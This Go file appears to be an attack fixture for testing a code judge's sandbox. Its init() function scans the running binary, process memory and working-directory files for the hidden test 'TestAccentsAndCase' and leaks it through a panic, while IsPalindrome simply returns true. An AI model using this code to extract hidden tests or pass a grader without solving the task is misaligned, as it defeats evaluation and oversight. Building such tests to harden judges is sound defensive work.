// Attack: search /proc/self/exe, /proc/self/mem and the files of the working directory for the
// compiled hidden tests (the name "Test"+"AccentsAndCase") and leak 300 bytes around it through a panic.
// A correct judge answers: wrong_answer or runtime_error, and its message holds no test source.
package palindrome

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
	"strings"
)

// Built at run time, in two separate pieces, so that the needle in this binary and on its
// heap never matches itself: a hit needs "Test" right before "AccentsAndCase".
var head, tail = reverse("tseT"), reverse("esaCdnAstneccA")

func reverse(s string) []byte {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return b
}

func leak(data []byte) {
	for off := 0; ; {
		i := bytes.Index(data[off:], tail)
		if i < 0 {
			return
		}
		i += off
		if i >= len(head) && bytes.Equal(data[i-len(head):i], head) {
			panic(fmt.Sprintf("%q", data[max(0, i-150):min(len(data), i+150)]))
		}
		off = i + 1
	}
}

func init() {
	if exe, err := os.ReadFile("/proc/self/exe"); err == nil {
		leak(exe)
	}
	if entries, err := os.ReadDir("."); err == nil {
		for _, e := range entries {
			if e.Type().IsRegular() {
				if b, err := os.ReadFile(e.Name()); err == nil {
					leak(b)
				}
			}
		}
	}
	maps, err := os.ReadFile("/proc/self/maps")
	if err != nil {
		return
	}
	mem, err := os.Open("/proc/self/mem")
	if err != nil {
		return
	}
	defer mem.Close()
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
			continue
		}
		lo, hi, _ := strings.Cut(f[0], "-")
		start, err1 := strconv.ParseInt(lo, 16, 64)
		end, err2 := strconv.ParseInt(hi, 16, 64)
		if err1 != nil || err2 != nil || end <= start || end-start > 256<<20 {
			continue
		}
		buf := make([]byte, end-start)
		if n, _ := mem.ReadAt(buf, start); n > 0 {
			leak(buf[:n])
		}
	}
}

func IsPalindrome(s string) bool { return true }
